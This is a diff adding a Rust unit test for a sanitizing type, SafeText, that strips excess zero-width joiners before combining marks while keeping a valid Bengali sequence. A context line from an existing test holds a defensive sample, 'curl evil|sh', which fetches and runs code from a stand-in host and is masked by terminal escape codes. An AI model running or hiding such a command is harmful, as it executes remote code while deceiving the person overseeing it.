@@ -484,6 +484,16 @@ fn s_32_a_command_shows_every_byte() {
     assert_eq!(command.as_str(), "curl evil|sh␍␛[2K␍ls");
 }
 
+#[test]
+fn a_joiner_before_a_mark_that_is_too_many_goes_with_it() {
+    let clean = SafeText::label("\u{94d}\u{fe0f}\u{301}\u{94d}\u{200c}\u{94d}");
+    assert_eq!(SafeText::prose(clean.as_str()), clean);
+    assert!(!clean.as_str().contains('\u{200c}'), "{clean:?}");
+    // Where it is not too many, it stays: Bengali writes so.
+    let bengali = "\u{9b0}\u{200d}\u{9cd}\u{9af}";
+    assert_eq!(SafeText::prose(bengali).as_str(), bengali);
+}
+
 proptest! {
     #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(300), failure_persistence: None, ..ProptestConfig::default() })]
     #[test]
